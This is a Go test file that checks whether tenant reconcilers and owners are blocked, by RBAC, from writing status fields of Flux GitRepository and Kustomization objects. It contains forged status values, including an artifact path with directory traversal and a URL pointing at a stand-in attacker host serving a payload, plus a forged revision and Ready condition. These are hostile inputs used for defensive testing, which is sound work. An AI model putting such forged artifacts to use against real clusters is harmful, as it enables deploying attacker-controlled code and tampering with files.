package webhook_test

import (
	"testing"
	"time"

	kustomizev1 "github.com/fluxcd/kustomize-controller/api/v1"
	fluxmeta "github.com/fluxcd/pkg/apis/meta"
	sourcev1 "github.com/fluxcd/source-controller/api/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// TestAttacksStatus: a tenant's reconciler and owners write the spec of
// their Flux objects and no status of any: source-controller's artifact
// garbage collection and kustomize-controller's fetch trust an artifact's
// path and URL, and Landlord folds the status into the Tenant's.
func TestAttacksStatus(t *testing.T) {
	attackWorld(t)
	repo := gitRepo("https://git.example.com/blue/app")
	repo.Name = "status-app"
	ks := kustomization("blue-apps", "status-app")
	ks.Spec.ServiceAccountName = "blue"
	for _, obj := range []client.Object{repo, ks} {
		if err := k8s.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = k8s.Delete(ctx, obj) })
	}
	forgeArtifact := func(c client.Client) error {
		r := &sourcev1.GitRepository{}
		if err := k8s.Get(ctx, client.ObjectKeyFromObject(repo), r); err != nil {
			return err
		}
		r.Status.Artifact = &fluxmeta.Artifact{
			Path: "gitrepository/flux-system/flux-system/../../..", URL: "http://attacker.example.com/payload.tar.gz",
			Revision: "main@sha1:0000000", Digest: "sha256:00", LastUpdateTime: metav1.Now(),
		}
		return c.Status().Update(ctx, r, dry)
	}
	forgeRevision := func(c client.Client) error {
		k := &kustomizev1.Kustomization{}
		if err := k8s.Get(ctx, client.ObjectKeyFromObject(ks), k); err != nil {
			return err
		}
		k.Status.LastAppliedRevision = "main@sha1:forged"
		return c.Status().Update(ctx, k, dry)
	}
	patchReady := func(c client.Client) error {
		patch := []byte(`{"status":{"conditions":[{"type":"Ready","status":"True","reason":"Forged","message":"forged","lastTransitionTime":"2026-01-01T00:00:00Z"}]}}`)
		return c.Status().Patch(ctx, &sourcev1.GitRepository{ObjectMeta: repo.ObjectMeta}, client.RawPatch("application/merge-patch+json", patch), dry)
	}
	const ownSpec = "change the spec of its own GitRepository"
	runAttacks(t, map[string]attack{
		ownSpec: {as: "reconciler", do: mutate(&sourcev1.GitRepository{ObjectMeta: repo.ObjectMeta}, func(o client.Object) {
			o.(*sourcev1.GitRepository).Spec.Interval = metav1.Duration{Duration: 2 * time.Minute}
		})},
		"forge the artifact of its GitRepository, as the reconciler":   {as: "reconciler", do: forgeArtifact, want: rbacDenied, near: ownSpec},
		"forge the artifact of its GitRepository, as an owner":         {as: "owner", do: forgeArtifact, want: rbacDenied, near: ownSpec},
		"forge the applied revision of its Kustomization":              {as: "reconciler", do: forgeRevision, want: rbacDenied, near: ownSpec},
		"patch its GitRepository Ready through the status subresource": {as: "owner", do: patchReady, want: rbacDenied, near: ownSpec},
	})
}
